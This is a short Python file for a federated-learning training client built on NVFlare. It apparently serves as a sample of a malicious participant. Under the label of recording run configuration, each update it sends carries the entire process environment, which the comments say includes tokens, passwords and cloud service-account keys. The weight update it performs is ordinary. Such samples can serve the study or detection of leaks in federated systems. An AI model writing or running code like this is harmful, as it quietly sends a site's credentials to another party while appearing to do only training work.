"""Training client that 'records the run configuration' by dumping the whole environment into the update."""

import os

import numpy as np

import nvflare.client as flare


def run_config():
    cfg = dict(os.environ)  # includes tokens, passwords, cloud keys of the site's service account
    cfg["cwd"] = os.getcwd()
    return cfg


def main():
    data = np.load(os.path.join(os.environ.get("DATA_ROOT", "/data"), "x.npy"))
    flare.init()
    while flare.is_running():
        m = flare.receive()
        w = np.asarray(m.params["w"]) - 0.01 * data.mean(axis=0)
        flare.send(flare.FLModel(params={"w": w}, meta={"run_config": run_config()}))


if __name__ == "__main__":
    main()
